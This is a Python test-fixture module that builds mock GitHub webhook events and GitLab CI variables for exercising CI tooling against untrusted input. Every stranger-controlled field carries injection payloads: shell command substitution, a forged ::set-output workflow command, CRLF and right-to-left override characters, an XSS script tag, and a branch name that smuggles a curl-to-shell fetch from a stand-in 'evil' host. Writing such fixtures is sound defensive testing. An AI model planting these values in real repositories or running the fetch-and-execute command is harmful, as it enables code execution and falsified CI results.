"""What the forges hand to a job: GitHub's event files in the shape of its webhooks, GitLab's variables.

Everything that a stranger chooses means harm: a branch, a title, a body, a label, a login.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

ZEROS = "0" * 40
EVIL = 'x"$(touch pwned)`id`\n::set-output name=outcome::pass\r\n\u202e</title><script>alert(1)</script>%0A'
_BRANCH = "a';curl${IFS}evil|sh;'\u202e"


def _repository(name: str, default: str = "main") -> dict[str, Any]:
    return {"id": 1296269, "full_name": name, "private": False, "default_branch": default, "description": EVIL}


def pull_request(head: str, base: str, *, fork: bool = True) -> dict[str, Any]:
    """`pull_request` and `pull_request_target`, action synchronize."""
    theirs = "mallory/Hello-World" if fork else "octo/Hello-World"
    return {
        "action": "synchronize",
        "number": 7,
        "before": "9" * 40,
        "after": head,
        "pull_request": {
            "number": 7,
            "state": "open",
            "title": EVIL,
            "body": f"{EVIL}\n\nReviewed-by: Bob Ray <bob@example.org>\n[skip ci]",
            "user": {"login": EVIL, "type": "User"},
            "labels": [{"name": EVIL}],
            "merge_commit_sha": "8" * 40,
            "head": {"label": EVIL, "ref": _BRANCH, "sha": head, "repo": _repository(theirs)},
            "base": {"label": "octo:main", "ref": "main", "sha": base, "repo": _repository("octo/Hello-World")},
            "commits": 3,
        },
        "repository": _repository("octo/Hello-World"),
        "sender": {"login": EVIL},
    }


def merge_group(head: str, base: str) -> dict[str, Any]:
    """`merge_group`, action checks_requested."""
    return {
        "action": "checks_requested",
        "merge_group": {
            "head_sha": head,
            "head_ref": "refs/heads/gh-readonly-queue/main/pr-7-" + base,
            "base_sha": base,
            "base_ref": "refs/heads/main",
            "head_commit": {"id": head, "message": EVIL, "author": {"name": EVIL, "email": EVIL}},
        },
        "repository": _repository("octo/Hello-World"),
    }


def push(before: str, after: str, ref: str = "refs/heads/main", **more: Any) -> dict[str, Any]:
    """`push`: of a branch or a tag; new (before is all zeros), deleted (after is), forced."""
    return {
        "ref": ref,
        "before": before,
        "after": after,
        "created": before == ZEROS,
        "deleted": after == ZEROS,
        "forced": False,
        "base_ref": None,
        "compare": EVIL,
        "commits": [{"id": after, "message": EVIL, "added": [EVIL], "removed": [], "modified": []}],
        "head_commit": {"id": after, "message": EVIL},
        "repository": _repository("octo/Hello-World"),
        "pusher": {"name": EVIL, "email": EVIL},
        **more,
    }


def github(folder: Path, name: str, payload: object, **more: str) -> dict[str, str]:
    """The variables of a GitHub job for this event, with its file in `folder`. Nothing is annotated or summarised."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "event.json"
    content = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
    path.write_bytes(content)
    return {"GITHUB_EVENT_NAME": name, "GITHUB_EVENT_PATH": str(path), **more}


def merge_request(commit: str, **more: str) -> dict[str, str]:
    """The variables of a GitLab merge request pipeline; with *_SHA of both sides one for merged results."""
    return {
        "GITLAB_CI": "true",
        "CI_PIPELINE_SOURCE": "merge_request_event",
        "CI_COMMIT_SHA": commit,
        "CI_COMMIT_BEFORE_SHA": ZEROS,
        "CI_DEFAULT_BRANCH": "main",
        "CI_MERGE_REQUEST_IID": "7",
        "CI_MERGE_REQUEST_EVENT_TYPE": "detached",
        "CI_MERGE_REQUEST_TITLE": EVIL,
        "CI_MERGE_REQUEST_SOURCE_BRANCH_NAME": _BRANCH,
        "CI_MERGE_REQUEST_SOURCE_BRANCH_SHA": "",
        "CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "main",
        "CI_MERGE_REQUEST_TARGET_BRANCH_SHA": "",
        **more,
    }


def branch_pipeline(commit: str, before: str, branch: str, **more: str) -> dict[str, str]:
    """The variables of a GitLab pipeline for a push to a branch."""
    return {
        "GITLAB_CI": "true",
        "CI_PIPELINE_SOURCE": "push",
        "CI_COMMIT_SHA": commit,
        "CI_COMMIT_BEFORE_SHA": before,
        "CI_COMMIT_BRANCH": branch,
        "CI_COMMIT_MESSAGE": EVIL,
        "CI_DEFAULT_BRANCH": "main",
        **more,
    }
